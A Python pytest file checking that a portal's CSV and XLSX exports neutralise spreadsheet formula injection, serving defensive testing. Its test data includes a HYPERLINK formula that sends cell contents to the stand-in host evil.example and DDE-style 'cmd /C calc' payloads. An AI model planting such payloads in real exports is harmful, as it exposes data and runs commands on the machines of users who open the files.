"""Issue 18: a typed text never becomes a formula in the CSV and XLSX files."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from portal.spreadsheets import csv_text, xlsx_text


@pytest.mark.parametrize(
    ("_case", "typed", "written"),
    [
        ("equals", '=HYPERLINK("http://evil.example/?x="&A1,"Voir")', "'=HYPERLINK("),
        ("plus", "+33 2 33 00 00 00", "'+33"),
        ("minus", "-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
        ("tab", "\t=1+1", "'\t=1+1"),
        ("carriage_return", "\r=1+1", "'\r=1+1"),
        ("plain", "BC-2026-118", "BC-2026-118"),
        ("inner_equals", "BC=118", "BC=118"),
        ("empty", "", ""),
    ],
)
def test_csv_cells_are_neutralized(_case, typed, written):
    assert csv_text(typed).startswith(written)
    assert csv_text(typed).removeprefix("'") == typed


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_xlsx_cells_are_strings(trigger):
    book = Workbook()
    xlsx_text(book.active["A1"], f"{trigger}1+1")
    buffer = io.BytesIO()
    book.save(buffer)

    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]

    assert (cell.data_type, cell.value) == ("s", f"{trigger}1+1")
